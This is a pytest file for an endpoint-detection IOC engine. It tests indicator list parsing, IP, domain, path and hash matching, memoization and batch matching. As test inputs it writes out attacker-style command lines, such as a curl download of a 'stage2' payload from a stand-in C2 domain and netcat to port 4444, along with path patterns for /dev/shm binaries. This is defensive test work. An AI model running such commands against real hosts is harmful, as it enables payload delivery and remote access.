"""IOC engine: list loading with errors by file and line, and matching every supported field."""

from __future__ import annotations

import hashlib
import ipaddress
import time
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from edr.config import Config, IocConfig
from edr.detect.ioc import IocSet, load_iocs
from edr.detect.ioc.ipset import IpSet
from edr.detect.ioc.lists import Indicator
from edr.event import Event

REPO = Path(__file__).resolve().parents[3]
SHA256_X = hashlib.sha256(b"x").hexdigest()
MD5_X = hashlib.md5(b"x").hexdigest()


def write_lists(tmp_path: Path) -> IocConfig:
    (tmp_path / "hashes.txt").write_text(
        "# hashes\n"
        f"{SHA256_X.upper()} ; sha256 of x\n"
        f"{MD5_X}\n"
        "not-a-hash\n"
        "abcd\n"
    )
    (tmp_path / "ips.txt").write_text(
        "203.0.113.0/24 ; TEST-NET-3\n"
        "198.51.100.7\n"
        "2001:db8:dead::/48\n"
        "10.0.0.1/8\n"        # host bits set: error
        "300.1.1.1\n"          # error
    )
    (tmp_path / "domains.txt").write_text(
        "*.malware.example.invalid\n"
        ".tracker.example.invalid\n"
        "c2.example.invalid  # exact\n"
        "bad_domain\n"         # error: single label
        "*.\n"                 # error
    )
    (tmp_path / "paths_regex.txt").write_text(
        "^/dev/shm/.*\\.bin$\n"
        "\\\\Temp\\\\evil\\.exe$\n"
        "(unclosed\n"          # error
    )
    return IocConfig(
        hashes_path=str(tmp_path / "hashes.txt"), ips_path=str(tmp_path / "ips.txt"),
        domains_path=str(tmp_path / "domains.txt"), paths_regex_path=str(tmp_path / "paths_regex.txt"),
        default_severity="medium",
    )


def ev(category: str, **fields: object) -> Event:
    return Event(category=category, product="linux", fields=dict(fields), timestamp=1.0)


def test_bad_lines_are_reported_with_file_and_line_and_skipped(tmp_path: Path) -> None:
    iocs = load_iocs(write_lists(tmp_path))
    errs = "\n".join(map(str, iocs.errors))
    assert f"{tmp_path}/hashes.txt:4:" in errs and "not-a-hash" in errs
    assert f"{tmp_path}/hashes.txt:5:" in errs
    assert f"{tmp_path}/ips.txt:4:" in errs and f"{tmp_path}/ips.txt:5:" in errs
    assert f"{tmp_path}/domains.txt:4:" in errs and f"{tmp_path}/domains.txt:5:" in errs
    assert f"{tmp_path}/paths_regex.txt:3:" in errs
    assert len(iocs.errors) == 7
    assert sorted((e.file, e.line) for e in iocs.errors)[:2] == [(f"{tmp_path}/domains.txt", 4),
                                                                  (f"{tmp_path}/domains.txt", 5)]
    counts = iocs.counts()
    assert counts == {"md5": 1, "sha1": 0, "sha256": 1, "ip": 1, "cidr": 2, "domain_exact": 1,
                      "domain_suffix": 2, "path_regex": 2}
    assert "7 line(s) skipped" in iocs.summary()


def test_missing_files_are_errors_not_exceptions(tmp_path: Path) -> None:
    cfg = IocConfig(hashes_path=str(tmp_path / "nope.txt"), ips_path=str(tmp_path / "nope2.txt"),
                    domains_path=str(tmp_path), paths_regex_path=str(tmp_path / "nope3.txt"))
    iocs = load_iocs(cfg)
    assert len(iocs.errors) == 4
    assert iocs.match(ev("network_connection", DestinationIp="203.0.113.5")) == []


def test_destination_ip_in_listed_cidr_raises_ioc_alert(tmp_path: Path) -> None:
    iocs = load_iocs(write_lists(tmp_path))
    alerts = iocs.match(ev("network_connection", DestinationIp="203.0.113.77", SourceIp="192.0.2.1"))
    assert len(alerts) == 1
    a = alerts[0]
    assert a.rule_id == "ioc:ip:203.0.113.0/24"
    assert a.engine == "ioc" and a.severity == "medium"
    assert a.ecs["threat.indicator.type"] == "ipv4-addr"
    assert a.ecs["threat.indicator.ip"] == "203.0.113.77"
    assert a.ecs["threat.enrichments.matched.field"] == "destination.ip"
    assert a.ecs["threat.enrichments.matched.atomic"] == "203.0.113.77"
    assert a.ecs["threat.indicator.description"] == "TEST-NET-3"
    assert iocs.match(ev("network_connection", DestinationIp="203.0.114.1")) == []


def test_ipv6_ranges_mapped_addresses_and_exact_addresses(tmp_path: Path) -> None:
    iocs = load_iocs(write_lists(tmp_path))
    a = iocs.match(ev("network_connection", DestinationIp="2001:db8:dead:1::5"))
    assert [x.rule_id for x in a] == ["ioc:ip:2001:db8:dead::/48"]
    assert a[0].ecs["threat.indicator.type"] == "ipv6-addr"
    assert [x.rule_id for x in iocs.match(ev("network_connection", SourceIp="::ffff:198.51.100.7"))] == [
        "ioc:ip:198.51.100.7"]
    assert iocs.match(ev("network_connection", DestinationIp="2001:db8:beef::1")) == []


def test_query_name_under_star_domain_raises_ioc_alert(tmp_path: Path) -> None:
    iocs = load_iocs(write_lists(tmp_path))
    alerts = iocs.match(ev("dns_query", QueryName="x.Y.Malware.Example.Invalid."))
    assert [a.rule_id for a in alerts] == ["ioc:domain:.malware.example.invalid"]
    assert alerts[0].ecs["threat.indicator.type"] == "domain-name"
    assert alerts[0].ecs["threat.indicator.url.domain"] == "x.y.malware.example.invalid"
    assert alerts[0].ecs["threat.enrichments.matched.field"] == "dns.question.name"
    # the suffix itself matches; a name merely ending with the same letters does not
    assert iocs.match(ev("dns_query", QueryName="malware.example.invalid"))
    assert iocs.match(ev("dns_query", QueryName="notmalware.example.invalid")) == []
    # exact entries match only themselves
    assert iocs.match(ev("network_connection", DestinationHostname="c2.example.invalid"))
    assert iocs.match(ev("network_connection", DestinationHostname="a.c2.example.invalid")) == []


def test_dns_answers_are_checked_for_addresses_and_cnames(tmp_path: Path) -> None:
    iocs = load_iocs(write_lists(tmp_path))
    alerts = iocs.match(ev("dns_query", QueryName="innocent.example.org",
                           QueryResults="type:  5 cdn.tracker.example.invalid;::ffff:203.0.113.9;"))
    assert {a.rule_id for a in alerts} == {"ioc:domain:.tracker.example.invalid", "ioc:ip:203.0.113.0/24"}
    assert all(a.ecs["threat.enrichments.matched.field"] == "dns.answers.data" for a in alerts)


def test_command_line_addresses_and_domains_one_alert_per_indicator(tmp_path: Path) -> None:
    iocs = load_iocs(write_lists(tmp_path))
    cmd = ("curl -k https://c2.example.invalid/stage2 -o /tmp/x; nc 203.0.113.4 4444; "
           "ping 203.0.113.5; wget http://[2001:db8:dead::9]/p setup.py")
    alerts = iocs.match(ev("process_creation", CommandLine=cmd, DestinationIp="203.0.113.4"))
    ids = sorted(a.rule_id for a in alerts)
    assert ids == ["ioc:domain:c2.example.invalid", "ioc:ip:2001:db8:dead::/48", "ioc:ip:203.0.113.0/24"]
    ip_alert = next(a for a in alerts if a.rule_id == "ioc:ip:203.0.113.0/24")
    assert ip_alert.ecs["threat.enrichments.matched.field"] == "destination.ip"


def test_path_regexes_are_case_insensitive_re2(tmp_path: Path) -> None:
    iocs = load_iocs(write_lists(tmp_path))
    a = iocs.match(ev("process_creation", Image="/DEV/SHM/payload.BIN"))
    assert [x.rule_id for x in a] == ["ioc:path_regex:^/dev/shm/.*\\.bin$"]
    assert a[0].ecs["threat.indicator.type"] == "file"
    assert a[0].ecs["threat.enrichments.matched.field"] == "process.executable"
    assert iocs.match(ev("file_event", TargetFilename="C:\\temp\\EVIL.exe"))
    assert iocs.match(ev("process_creation", ParentImage="/dev/shm/x.bin"))[0].ecs[
        "threat.enrichments.matched.field"] == "process.parent.executable"
    assert iocs.match(ev("process_creation", Image="/usr/bin/ls")) == []


def test_path_that_is_not_utf8_is_still_matched(tmp_path: Path) -> None:
    # a live path with a byte that is not UTF-8 arrives surrogate-escaped; RE2's str route
    # would raise on it and the event would escape every path indicator
    iocs = load_iocs(write_lists(tmp_path))
    name = b"/dev/shm/\xff\xfe.bin".decode("utf-8", "surrogateescape")
    assert [x.rule_id for x in iocs.match(ev("process_creation", Image=name))] == ["ioc:path_regex:^/dev/shm/.*\\.bin$"]


def test_match_hashes_for_the_scanner_and_sysmon_hashes_field(tmp_path: Path) -> None:
    iocs = load_iocs(write_lists(tmp_path))
    event = ev("process_creation", Image="/tmp/x", ProcessId=5)
    alerts = iocs.match_hashes({"md5": MD5_X, "sha1": "0" * 40, "sha256": SHA256_X}, event, "/tmp/x")
    assert sorted(a.rule_id for a in alerts) == [f"ioc:md5:{MD5_X}", f"ioc:sha256:{SHA256_X}"]
    a = next(a for a in alerts if a.rule_id.startswith("ioc:sha256"))
    assert a.event is event
    assert a.ecs["threat.indicator.file.hash.sha256"] == SHA256_X
    assert a.ecs["file.hash.sha256"] == SHA256_X and a.ecs["file.path"] == "/tmp/x"
    assert a.ecs["threat.enrichments.matched.field"] == "file.hash.sha256"
    sysmon = iocs.match(ev("process_creation", Hashes=f"SHA1=AA,MD5={MD5_X.upper()},SHA256=BB"))
    assert [x.rule_id for x in sysmon] == [f"ioc:md5:{MD5_X}"]


def test_odd_field_values_never_raise(tmp_path: Path) -> None:
    iocs = load_iocs(write_lists(tmp_path))
    for value in (None, 5, True, ["203.0.113.1"], {"a": 1}, "", "::::", "[", "999.999.999.999"):
        iocs.match(ev("network_connection", DestinationIp=value, QueryName=value, CommandLine=value,
                      Image=value, QueryResults=value, Hashes=value))


def test_events_without_indicator_fields_cost_almost_nothing(tmp_path: Path) -> None:
    iocs = load_iocs(write_lists(tmp_path))
    events = [ev("registry_set", TargetObject="HKLM\\x", Details="1", ProcessId=i) for i in range(100_000)]
    start = time.perf_counter()
    for e in events:
        iocs.match(e)
    elapsed = time.perf_counter() - start
    # ~10 dict probes per event: far below 1 s for 100k even on a slow CI host.
    assert elapsed < 1.0, elapsed
    assert iocs.fields_read("registry_set") >= {"DestinationIp", "QueryName", "Image", "CommandLine"}


def test_shipped_example_lists_load_cleanly() -> None:
    cfg = Config().ioc
    cfg = IocConfig(**{**{k: getattr(cfg, k) for k in ("enabled", "default_severity", "max_file_size_mb")},
                       "hashes_path": str(REPO / "rules/ioc/hashes.txt"),
                       "ips_path": str(REPO / "rules/ioc/ips.txt"),
                       "domains_path": str(REPO / "rules/ioc/domains.txt"),
                       "paths_regex_path": str(REPO / "rules/ioc/paths_regex.txt")})
    iocs = load_iocs(cfg)
    assert iocs.errors == []
    assert iocs.match(ev("network_connection", DestinationIp="203.0.113.10"))
    assert iocs.match(ev("dns_query", QueryName="a.malware.example.invalid"))


networks = st.one_of(
    st.builds(lambda a, p: ipaddress.ip_network((a, p), strict=False),
              st.integers(0, 2**32 - 1), st.integers(0, 32)),
    st.builds(lambda a, p: ipaddress.ip_network((a, p), strict=False),
              st.integers(0, 2**128 - 1), st.integers(0, 128)),
)
addresses = st.one_of(st.integers(0, 2**32 - 1).map(ipaddress.IPv4Address),
                      st.integers(0, 2**128 - 1).map(ipaddress.IPv6Address))


@settings(max_examples=200, deadline=None)
@given(st.lists(networks, max_size=30), st.lists(addresses, min_size=1, max_size=20))
def test_ipset_lookup_agrees_with_scanning_every_range(nets: list, addrs: list) -> None:
    ipset = IpSet()
    for net in nets:
        ipset.add(net, Indicator("ip", str(net), "t", 1))
    for addr in addrs:
        expected = {str(n) for n in nets if n.version == addr.version and addr in n}
        assert {i.value for i in ipset.lookup(addr)} == expected
        # also via the sampled addresses inside the networks
    for net in nets:
        inside = net.network_address
        assert str(net) in {i.value for i in ipset.lookup(inside)}


def test_iocset_is_a_detector() -> None:
    iocs = IocSet()
    assert iocs.name == "ioc"
    assert iocs.match(ev("process_creation", Image="/x")) == []
    assert iocs.statistics()["events"] == 1


def test_memo_of_recurring_values_is_exact_and_bounded(tmp_path: Path) -> None:
    from edr.detect.ioc.engine import MEMO_SIZE

    iocs = load_iocs(write_lists(tmp_path))
    cmd = "curl http://c2.example.invalid/x"
    for _ in range(3):  # the same value again: the memo answers, with the same alerts and fields
        [a] = iocs.match(ev("process_creation", CommandLine=cmd))
        assert a.rule_id == "ioc:domain:c2.example.invalid"
        assert a.ecs["threat.enrichments.matched.field"] == "process.command_line"
        [p] = iocs.match(ev("file_event", TargetFilename="/dev/shm/a.bin"))
        assert p.ecs["threat.enrichments.matched.field"] == "file.path"
    # the same path under another field reports that field, not the memoized one
    [q] = iocs.match(ev("process_creation", Image="/dev/shm/a.bin"))
    assert q.ecs["threat.enrichments.matched.field"] == "process.executable"
    for i in range(MEMO_SIZE + 10):
        assert iocs.match(ev("process_creation", CommandLine=f"ls /tmp/{i}", Image=f"/usr/bin/x{i}")) == []
    assert len(iocs._text_memo) <= MEMO_SIZE and len(iocs._path_memo) <= MEMO_SIZE
    assert [a.rule_id for a in iocs.match(ev("process_creation", CommandLine=cmd))] == [
        "ioc:domain:c2.example.invalid"]


def _alert_view(alerts: list) -> list:  # type: ignore[type-arg]
    return [(id(a.event), a.rule_id, a.description, sorted(a.ecs.items())) for a in alerts]


def test_match_batch_gives_what_match_gives_event_by_event(tmp_path: Path) -> None:
    import random

    rng = random.Random(7)
    values: list[object] = [
        "203.0.113.4", "198.51.100.7", "192.0.2.1", "x.malware.example.invalid", "c2.example.invalid",
        "example.org", "curl http://c2.example.invalid/x 203.0.113.9", "ls -la /tmp", "/dev/shm/a.bin",
        "/DEV/SHM/B.BIN", "/usr/bin/true", "C:\\Temp\\evil.exe", f"MD5={MD5_X}", "type:  5 a.tracker.example.invalid;",
        b"/dev/shm/\xff.bin".decode("utf-8", "surrogateescape"), "", None, 0, 5, True, ["203.0.113.1"], {"a": 1},
    ]
    names = ["DestinationIp", "SourceIp", "QueryName", "DestinationHostname", "QueryResults", "CommandLine",
             "Image", "ParentImage", "TargetFilename", "ImageLoaded", "Hashes", "ProcessId", "User"]
    events = [ev("process_creation", **{n: rng.choice(values) for n in rng.sample(names, rng.randrange(0, 6))})
              for _ in range(3_000)]  # values recur: the memos answer for most
    one_by_one, batched = load_iocs(write_lists(tmp_path)), load_iocs(write_lists(tmp_path))
    expected = [a for e in events for a in one_by_one.match(e)]
    got = [a for i in range(0, len(events), 64) for a in batched.match_batch(events[i:i + 64])]
    assert len(expected) > 500 and _alert_view(got) == _alert_view(expected)
    assert batched.statistics() == one_by_one.statistics()


def test_match_batch_counts_nothing_of_a_batch_it_fails_on(tmp_path: Path) -> None:
    import logging

    from edr.detect.actor import DetectActor

    iocs = load_iocs(write_lists(tmp_path))

    class Fields(dict):  # type: ignore[type-arg]
        """Fields that fail the batch's set intersection (not the per-event path's probes)."""

        def __iter__(self):  # type: ignore[no-untyped-def]
            raise RuntimeError("no iteration")

    odd = Event(category="process_creation", product="linux", fields=Fields(Image="/dev/shm/a.bin"))
    batch = [ev("process_creation", Image="/dev/shm/b.bin"), odd, ev("network_connection", DestinationIp="203.0.113.4")]
    actor = DetectActor("detect", [iocs], logging.getLogger("test"))
    alerts = actor.detect(batch)  # matched again one by one: the actor's fallback
    assert [a.event for a in alerts] == batch and actor.batch_errors == 1 and actor.errors == 0
    assert iocs.statistics()["events"] == 3 and iocs.statistics()["matches"] == 3
